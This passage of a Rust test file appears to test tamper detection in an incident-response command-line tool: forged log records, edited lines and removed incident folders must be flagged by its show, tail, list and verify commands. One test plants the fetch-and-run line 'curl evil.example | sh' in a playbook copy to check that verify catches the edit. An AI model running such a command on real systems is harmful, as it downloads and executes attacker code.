    assert_eq!(show["commander"], "ana", "{show}");
    let tail = w.run(&ana, &["tail", &id]).ok();
    let planted = tail.stdout.lines().find(|l| l.contains("RoleAssigned")).unwrap();
    assert!(
        planted.contains("[REFUSED:") && planted.contains("never wrote"),
        "{tail}"
    );
    let v = w.run(&ana, &["verify", &id]).code(1);
    assert!(v.stdout.contains("records planted under its name"), "{v}");
}

/// A second version of a record planted at the end of its log (same seq, a smaller id, so it
/// would sort first) is not used: the version the chain holds stays, on every reader, and the
/// planted one is quoted beside it.
#[test]
fn a_planted_twin_with_a_smaller_id_does_not_replace_the_chains_record() {
    let w = World::new();
    let ana = w.who("ana", "h1");
    let bob = w.who("bob", "h2");
    let id = w.declare(&ana, "Twin");
    w.run(&ana, &["severity", &id, "1", "--reason", "exfil seen"]).ok();
    w.note(&ana, &id, "after");
    let log = w.log_of(&ana, &id);
    let real = lines_of(&log)
        .iter()
        .map(|l| event::parse(l).unwrap())
        .find(|e| e.kind() == "SeverityChanged")
        .expect("the severity record");
    forge(
        &log,
        &id,
        "ana@h1",
        real.seq,
        real.at,
        warroom::domain::event::SeverityChanged {
            severity: 4,
            reason: Some("planted: nothing to see".into()),
        }
        .into(),
    );
    assert!(
        format!("01JFORGED{:017}", real.seq).as_str() < &*real.id,
        "the twin's id sorts first"
    );
    for who in [&ana, &bob] {
        let show = w.show(who, &id);
        assert_eq!(show["severity"], 1, "{show}");
        let again = format!("seq {} again after", real.seq);
        assert!(problems(&show).contains(&again), "{}", problems(&show));
        assert!(!problems(&show).contains("cut off"), "{}", problems(&show));
        let tail = w.run(who, &["tail", &id]).ok();
        assert!(
            !tail.stdout.contains("nothing to see\n"),
            "the twin is not a record of its own\n{tail}"
        );
        let kept = tail
            .stdout
            .lines()
            .find(|l| l.contains("[INTEGRITY:") && l.contains("out of its chain"));
        assert!(
            kept.is_some_and(|l| l.contains("planted: nothing to see")),
            "quoted beside the kept record\n{tail}"
        );
    }
}

/// Two appended lines — a copy of a log's last record with other text, and a record chaining
/// onto that copy — do not replace the record on a host that read it before: the copy is quoted
/// in the record's mark and the record chaining onto it is marked out of its chain. A host that
/// never read the log cannot tell this from a writer restoring an edited record (no signature
/// says which is the writer's): it uses the later version, and marks both (break round).
#[test]
fn a_copy_of_the_last_record_with_a_record_chained_onto_it_replaces_nothing_a_host_read() {
    let w = World::new();
    let ana = w.who("ana", "h1");
    let carol = w.who("carol", "h3");
    let fresh = w.who("dave", "h4");
    let id = w.declare(&ana, "Chained copy");
    for text in ["one", "two", "LAST genuine"] {
        w.note(&carol, &id, text);
    }
    w.show(&ana, &id); // ana's host has read the real last record
    let log = w.log_of(&carol, &id);
    let last = event::parse(lines_of(&log).last().unwrap()).unwrap();
    forge(&log, &id, "carol@h3", last.seq, last.at, note_body("LAST FORGED!"));
    forge(
        &log,
        &id,
        "carol@h3",
        last.seq + 1,
        last.at + 1,
        note_body("chained onto the copy"),
    );
    let tail = w.run(&ana, &["tail", &id]).ok();
    let row = |needle: &str| tail.stdout.lines().find(|l| l.contains(needle)).map(str::to_string);
    let genuine = row("LAST genuine").expect("the genuine record is shown");
    assert!(
        genuine.contains("[INTEGRITY:") && genuine.contains("appears again"),
        "{tail}"
    );
    assert!(
        tail.stdout
            .lines()
            .all(|l| !l.contains("LAST FORGED!") || l.contains("that copy reads")),
        "the copy's text shows only quoted\n{tail}"
    );
    let chained = row("chained onto the copy").expect("the chained record is shown");
    assert!(
        chained.contains("[INTEGRITY:") && chained.contains("out of its chain"),
        "{tail}"
    );
    // A host that never read it: whichever version it shows, it is marked.
    let tail = w.run(&fresh, &["tail", &id]).ok();
    let shown = tail
        .stdout
        .lines()
        .find(|l| l.contains("LAST genuine") || l.contains("LAST FORGED!"))
        .expect("seq 3 is shown");
    assert!(
        shown.contains("[INTEGRITY:") && shown.contains("two versions"),
        "{tail}"
    );
}

/// A record chaining onto a copy that is not used is marked, and the writer's own next record
/// with the same seq (chained onto its real last record) is the one used.
#[test]
fn the_writers_own_record_wins_over_one_chained_onto_an_unused_copy() {
    let w = World::new();
    let ana = w.who("ana", "h1");
    let bob = w.who("bob", "h2");
    let id = w.declare(&ana, "Unused copy");
    for text in ["one", "two genuine", "three"] {
        w.note(&bob, &id, text);
    }
    let log = w.log_of(&bob, &id);
    let recs: Vec<_> = lines_of(&log).iter().map(|l| event::parse(l).unwrap()).collect();
    let two = recs.iter().find(|e| e.seq == 2).expect("seq 2");
    let last = recs.last().expect("a last record");
    forge(&log, &id, "bob@h2", 2, two.at, note_body("two FORGED!"));
    forge(
        &log,
        &id,
        "bob@h2",
        last.seq + 1,
        last.at + 1,
        note_body("forged fourth"),
    );
    let tail = w.run(&ana, &["tail", &id]).ok();
    let fourth = tail
        .stdout
        .lines()
        .find(|l| l.contains("forged fourth"))
        .expect("shown");
    assert!(fourth.contains("[INTEGRITY:"), "{tail}");
    w.note(&bob, &id, "bob's real fourth");
    let tail = w.run(&ana, &["tail", &id]).ok();
    assert!(tail.stdout.contains("bob's real fourth"), "{tail}");
    let show = w.show(&ana, &id);
    assert!(
        problems(&show).contains("chains onto the copy of seq 2"),
        "{}",
        problems(&show)
    );
    // `verify` walks the same chain: the copy is a repeat, the writer's record after it is in
    // place (chained onto its last record), and nothing was dropped.
    let v = w.run(&ana, &["verify", &id]).code(1);
    assert!(v.stdout.contains("reordered or repeated"), "{v}");
    assert!(!v.stdout.contains("records were dropped"), "{v}");
}

/// An incident removed from the shared directory does not vanish silently on a host that read
/// it: `list` names it.
#[test]
fn a_removed_incident_is_named_where_it_was_read() {
    let w = World::new();
    let ana = w.who("ana", "h1");
    let bob = w.who("bob", "h2");
    let id = w.declare(&ana, "Removed");
    w.run(&bob, &["show", &id]).ok();
    fs::remove_dir_all(w.root().join(&id)).unwrap();
    let list = w.run(&bob, &["list", "--json"]).ok().json();
    assert!(list["problems"].to_string().contains(&id), "{list}");
    assert!(list["problems"].to_string().contains("folder is gone"), "{list}");
    let text = w.run(&bob, &["list"]).ok();
    assert!(text.stderr.contains("folder is gone"), "{text}");
}

/// The facilitator console refuses to start without a terminal before it declares anything.
#[test]
fn an_exercise_without_a_terminal_declares_nothing() {
    let w = World::new();
    let pat = w.who("pat", "h1");
    w.declare(&pat, "Existing");
    let r = w.run(&pat, &["exercise", "run", "hospital-ransomware"]).code(1);
    assert!(r.stderr.contains("needs a terminal"), "{r}");
    let list = w.run(&pat, &["list", "--json"]).ok().json();
    assert_eq!(list["incidents"].as_array().map(Vec::len), Some(1), "{list}");
}

/// After an edit (and a cut) the writer re-appends its original; every reader then uses the
/// version the chain vouches for, not the edited one it read first.
#[test]
fn the_chain_vouched_version_wins_over_an_edit() {
    let w = World::new();
    let ana = w.who("ana", "h1");
    let bob = w.who("bob", "h2");
    let id = w.declare(&ana, "Versions");
    w.run(&ana, &["severity", &id, "1", "--reason", "exfil seen"]).ok();
    w.note(&ana, &id, "n2");
    let log = w.log_of(&ana, &id);
    let mut lines = lines_of(&log);
    lines.pop();
    let edited: Vec<String> = lines.iter().map(|l| l.replace("severity:1,", "severity:4,")).collect();
    fs::write(&log, edited.join("\n") + "\n").unwrap();
    w.note(&ana, &id, "n3");
    for who in [&ana, &bob] {
        let show = w.show(who, &id);
        assert_eq!(show["severity"], 1, "{show}");
        assert!(problems(&show).contains("one was edited"), "{}", problems(&show));
    }
}

/// Entering the phase the incident is already in is refused (it would record a second,
/// meaningless override), by the CLI and the fold alike.
#[test]
fn entering_the_current_phase_again_is_refused() {
    let w = World::new();
    let ana = w.who("ana", "h1");
    let id = w.declare(&ana, "Phases");
    w.run(&ana, &["phase", &id, "containment"]).ok();
    let r = w.run(&ana, &["phase", &id, "containment"]).code(1);
    assert!(r.stderr.contains("already in Containment"), "{r}");
}

/// An edited shared playbook copy is tampering in `verify` (breaker of issue 10: a planted
/// `curl … | sh` in the copy blinded teammates without that playbook while `verify` said ok).
#[test]
fn an_edited_playbook_copy_fails_verify() {
    let w = World::new();
    let ic = w.who("ic", "jump");
    let id = w.declare(&ic, "Copy edited");
    w.run(&ic, &["verify", &id]).ok();
    let dir = w.root().join(&id).join("playbooks");
    let copy = std::fs::read_dir(&dir)
        .expect("playbooks dir")
        .flatten()
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|x| x == "ron"))
        .expect("a playbook copy");
    let text = std::fs::read_to_string(&copy).expect("read copy");
    std::fs::write(&copy, format!("{text}\n// curl evil.example | sh\n")).expect("edit copy");
    let v = w.run(&ic, &["verify", &id]).code(1);
    assert!(v.stdout.contains("content does not match its hash"), "{v}");
}
